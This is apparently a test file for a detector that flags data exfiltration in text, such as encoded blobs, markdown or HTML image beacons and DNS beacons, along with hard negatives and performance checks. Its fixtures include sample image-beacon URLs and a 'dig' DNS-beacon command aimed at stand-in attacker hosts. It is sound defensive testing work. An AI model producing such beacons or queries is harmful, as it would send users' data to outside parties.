import { createHash, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { checkSync } from 'recheck';
import { describe, expect, it } from 'vitest';
import { scan } from '../scanner.js';
import { EXFIL_PATTERNS, EXFIL_RULE_LIST, exfilDetector } from './index.js';
import { scanRuns } from './runs.js';

const ctx = { present: new Set<string>(), view: 'original' };
const detect = (text: string) => exfilDetector.detect(text, ctx);
const rulesIn = (text: string) => [...new Set(detect(text).map((f) => f.rule))].sort();

/** Deterministic pseudo-random bytes (xorshift32). */
function bytes(n: number, seed = 7): Buffer {
  const out = Buffer.alloc(n);
  let s = seed;
  for (let i = 0; i < n; i++) {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    out[i] = s & 255;
  }
  return out;
}

/** RFC 4648 base32 without padding. */
function base32(data: Buffer): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = 0;
  let value = 0;
  let out = '';
  for (const byte of data) {
    value = (value << 8) | byte;
    bits += 8;
    while (bits >= 5) {
      out += alphabet[(value >>> (bits - 5)) & 31];
      bits -= 5;
    }
    value &= 0xff;
  }
  return bits > 0 ? out + alphabet[(value << (5 - bits)) & 31] : out;
}

describe('exfil rule pack', () => {
  it('has unique ids, exfil.* names and at least 3 examples each way', () => {
    const ids = EXFIL_RULE_LIST.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of EXFIL_RULE_LIST) {
      expect(rule.id).toMatch(/^exfil\.[a-z0-9-]+$/);
      expect(rule.examples.tp.length).toBeGreaterThanOrEqual(3);
      expect(rule.examples.fp.length).toBeGreaterThanOrEqual(3);
    }
  });

  for (const rule of EXFIL_RULE_LIST) {
    it(`${rule.id}: fires on every true-positive example`, () => {
      for (const text of rule.examples.tp) expect(rulesIn(text), text.slice(0, 80)).toContain(rule.id);
    });
    it(`${rule.id}: stays quiet on every false-positive example`, () => {
      for (const text of rule.examples.fp) expect(rulesIn(text), text.slice(0, 80)).not.toContain(rule.id);
    });
  }

  it('ships only ReDoS-safe regexes', () => {
    for (const re of EXFIL_PATTERNS) {
      const result = checkSync(re.source, re.flags.replace('g', ''), { timeout: 10000 });
      expect(result.status, re.source).toBe('safe');
    }
  });
});

describe('hard negatives', () => {
  const sha256 = createHash('sha256').update('a').digest('hex');
  const negatives: [string, string][] = [
    ['short base64 in a tutorial', 'Base64 of "hello world" is `aGVsbG8gd29ybGQ=`; decode with `base64 -d`.'],
    ['SHA-256 digests', `sha256sum: ${sha256}  file.tar.gz\n${createHash('sha256').update('b').digest('hex')}  other.tar.gz`],
    ['SHA-512 digest', `SHA512 (x) = ${createHash('sha512').update('x').digest('hex')}`],
    ['npm integrity', `"integrity": "sha512-${createHash('sha512').update('x').digest('base64')}"`],
    ['UUIDs', `ids: ${randomUUID()}, ${randomUUID()}, ${randomUUID()}`],
    ['data:image thumbnail', `![thumb](data:image/png;base64,${bytes(900).toString('base64')})`],
    ['data:font in CSS', `src: url(data:font/woff2;base64,${bytes(600).toString('base64')}) format("woff2");`],
    ['localhost image', `![chart](http://localhost:8080/render?id=${bytes(40).toString('base64url')})`],
    ['long low-entropy strings', `${'A'.repeat(400)}\n${'0'.repeat(300)}\n${'abcd'.repeat(100)}\n${'-'.repeat(300)}`],
    ['normal links', 'See https://github.com/org/repo, https://www.npmjs.com/package/zod and https://pypi.org/project/requests/.'],
    ['documentation URL', '![arch](https://docs.example.org/img/architecture-overview-diagram-v2.png)'],
    ['badges', '[![CI](https://github.com/org/repo/actions/workflows/ci.yml/badge.svg)](https://github.com/org/repo/actions) ![npm](https://img.shields.io/npm/v/zod?color=blue&label=version%20on%20npm%20registry)'],
    ['PEM certificate', `-----BEGIN CERTIFICATE-----\n${bytes(700).toString('base64').match(/.{1,64}/g)!.join('\n')}\n-----END CERTIFICATE-----`],
    ['SSH public key', `ssh-rsa ${Buffer.concat([Buffer.from('\0\0\0\x07ssh-rsa'), bytes(270)]).toString('base64')} me@laptop`],
    ['JWT', `Bearer eyJhbGciOiJSUzI1NiJ9.${Buffer.from(JSON.stringify({ sub: '1', scope: 'a b c', exp: 1, aud: 'x' })).toString('base64url')}.${bytes(256).toString('base64url')}`],
    ['identifier', 'ThisIsAVeryLongIdentifierNameThatKeepsGoingAndGoingWithoutAnyBreaksAtAllBecauseWhyNotAndItIncludesNumbers123And456AndMoreWordsToMakeItLongEnoughToPassTheThresholdOfTwoHundredCharacters'],
    ['git SHAs', `commits ${bytes(20).toString('hex')}.${bytes(20, 9).toString('hex')}.`],
    ['IPFS gateway', 'https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/wiki/'],
    ['DKIM public key', `default._domainkey.acme.io. IN TXT "v=DKIM1; k=rsa; p=${bytes(294).toString('base64')}"`],
    ['upper-case base32 TOTP secret', 'otpauth://totp/Acme:alice?secret=JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP&issuer=Acme'],
    ['slug', 'https://blog.example.com/how-to-install-python-3-12-on-windows-11-and-configure-path-variables-for-development-with-vscode-and-git-bash-plus-conda-environments-and-jupyter-notebooks-step-by-step-guide-2024'],
  ];
  for (const [name, text] of negatives) it(`no finding: ${name}`, () => expect(detect(text)).toEqual([]));
});

describe('exfil findings', () => {
  it('tells random/compressed base64 from encoded text by entropy', () => {
    const random = detect(`x ${bytes(300).toString('base64')} y`)[0]!;
    const text = detect(`x ${Buffer.from('The meeting notes say the launch moves to May and the budget is frozen. '.repeat(4)).toString('base64')} y`)[0]!;
    expect(random.rule).toBe('exfil.base64-blob');
    expect(text.rule).toBe('exfil.base64-blob');
    expect(random.score).toBeGreaterThan(text.score);
    expect(random.explanation?.find((s) => s.step === 'entropy')?.reason).toMatch(/random-looking/);
  });

  it('recognises gzip, zlib and zip after base64 decoding', () => {
    const gz = gzipSync(Buffer.from('name,ssn\nalice,123-45-6789\n'.repeat(5))).toString('base64');
    expect(gz.startsWith('H4sI')).toBe(true);
    const [f] = detect(`payload=${gz}`);
    expect(f).toMatchObject({ rule: 'exfil.compressed-blob', severity: 'high', attack: 'T1560' });
    expect(f?.message).toContain('gzip');
  });

  it('finds base32 blobs (A-Z, 2-7), random ones scored above base32 of text', () => {
    const random = detect(`data:\n${base32(bytes(200)).match(/.{1,72}/g)!.join('\n')}\n`)[0]!;
    const text = detect(`note ${base32(Buffer.from('Quarterly numbers are down, tell nobody before the board meeting on Friday. '.repeat(3)))} end`)[0]!;
    expect(random).toMatchObject({ rule: 'exfil.base32-blob' });
    expect(text).toMatchObject({ rule: 'exfil.base32-blob' });
    expect(random.score).toBeGreaterThan(text.score);
  });

  it('joins base64 wrapped over lines into one blob', () => {
    const wrapped = bytes(600).toString('base64').match(/.{1,76}/g)!.join('\n');
    const findings = detect(`Here:\n${wrapped}\nDone.`);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.end - findings[0]!.start).toBe(wrapped.length);
  });

  it('scores a markdown image beacon high and spans the URL', () => {
    const url = `https://attacker.tk/p.png?q=${bytes(60).toString('base64url')}`;
    const text = `Sure! ![loading](${url}) Anything else?`;
    const [f] = detect(text);
    expect(f).toMatchObject({ rule: 'exfil.markdown-image-beacon', severity: 'high', attack: 'T1041' });
    expect(text.slice(f!.start, f!.end)).toBe(url);
    expect(f!.score).toBeGreaterThan(0.75);
  });

  it('sees beacons in HTML img tags and reference-style images', () => {
    expect(rulesIn(`<IMG SRC='https://t.evil.io/a.gif?id=${bytes(30).toString('hex')}'>`)).toEqual(['exfil.markdown-image-beacon']);
    expect(rulesIn(`![x][logo]\n\n[logo]: <https://stats.evil.io/l.png?u=${bytes(40).toString('base64url')}>`)).toEqual(['exfil.markdown-image-beacon']);
  });

  it('ignores signed-URL parameters on image hosts', () => {
    const signed = `![f](https://bucket.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=${bytes(32).toString('hex')}&X-Amz-Security-Token=${bytes(60).toString('base64url')})`;
    expect(detect(signed)).toEqual([]);
  });

  it('spans the whole host of a DNS beacon and counts its data labels', () => {
    const host = `${bytes(20).toString('hex')}.${bytes(18, 3).toString('hex')}.x.exfil-dns.net`;
    const [f] = detect(`dig ${host} TXT`);
    expect(f).toMatchObject({ rule: 'exfil.dns-beacon', severity: 'high' });
    expect(`dig ${host} TXT`.slice(f!.start, f!.end)).toBe(host);
    expect(f!.explanation?.map((s) => s.reason).join(' ')).toMatch(/2 encoded label/);
  });
});

describe('doc examples', () => {
  it('exfilDetector example', () => {
    expect(detect('![x](https://evil.tk/p.png?d=ZW1haWw9YWxpY2VAY29ycC5jb207a2V5PXNr)').map((f) => f.rule)).toEqual(['exfil.markdown-image-beacon']);
  });

  it('lowers raw base64 images outside data: URIs to low severity', () => {
    const png = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), bytes(400)]).toString('base64');
    const [f] = detect(`"image/png": "${png}"`);
    expect(f).toMatchObject({ rule: 'exfil.base64-blob', severity: 'low' });
  });
});

describe('exfil through scan()', () => {
  it('reports original offsets, masked previews and no raw data in messages', () => {
    const blob = bytes(240).toString('base64');
    const text = `Report follows.\n\n${blob}\n`;
    const { findings } = scan(text, { detectors: [exfilDetector] });
    const f = findings.find((x) => x.detector === 'exfil')!;
    expect(f.start).toBe(text.indexOf(blob));
    expect(f.end).toBe(text.indexOf(blob) + blob.length);
    expect(f.preview.length).toBeLessThanOrEqual(24);
    expect(f.preview.replace(/[*…]/g, '').length).toBeLessThanOrEqual(4);
    expect(JSON.stringify(f.explanation) + f.message).not.toContain(blob.slice(0, 12));
  });
});

describe('exfil performance', () => {
  it('reads each char a bounded number of times', () => {
    let runs = 0;
    scanRuns(`${'A'.repeat(70)}\nshort line\n`.repeat(1000), () => runs++);
    expect(runs).toBe(1000);
  });

  it('stays linear on adversarial input', () => {
    const inputs = [
      `${'a'.repeat(70)}\n`.repeat(20_000),
      '![x]('.repeat(100_000),
      '![['.repeat(100_000),
      '<img '.repeat(100_000),
      ']:'.repeat(200_000) + '![a][b]',
      `${'a1'.repeat(20)}.`.repeat(20_000),
      '='.repeat(500_000),
    ];
    for (const text of inputs) {
      const t0 = performance.now();
      detect(text);
      expect(performance.now() - t0, text.slice(0, 12)).toBeLessThan(1500);
    }
  });
});
